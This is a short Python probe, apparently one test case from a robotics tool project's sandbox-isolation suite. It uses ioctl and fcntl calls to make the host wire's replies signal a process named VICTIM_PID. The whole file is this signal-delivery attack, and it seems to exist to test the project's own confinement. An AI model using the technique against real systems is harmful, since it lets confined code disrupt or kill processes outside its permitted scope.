# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""The same on the wire itself, by ioctl: FIOSETOWN, SIOCSPGRP and FIOASYNC.

The host's next message then makes the kernel signal whoever is named as the wire's owner.
"""

# act: signal

import ctypes
import os
import struct
import time

import msgspec

libc = ctypes.CDLL(None, use_errno=True)
FIOSETOWN, SIOCSPGRP, FIOASYNC, F_SETSIG = 0x8901, 0x8902, 0x5452, 10
for request in (SIOCSPGRP, FIOSETOWN):
    print(libc.ioctl(3, request, ctypes.byref(ctypes.c_int(VICTIM_PID))), ctypes.get_errno())
print(libc.fcntl(3, F_SETSIG, 10), libc.ioctl(3, FIOASYNC, ctypes.byref(ctypes.c_int(1))))
data = msgspec.msgpack.encode({
    'type': 'tool_request', 'tool': 'exists', 'args': {'object_name': 'mug'}, 'arrays': []})
os.write(3, struct.pack('<I', len(data)) + data)
time.sleep(0.3)
print(len(os.read(3, 65536)))
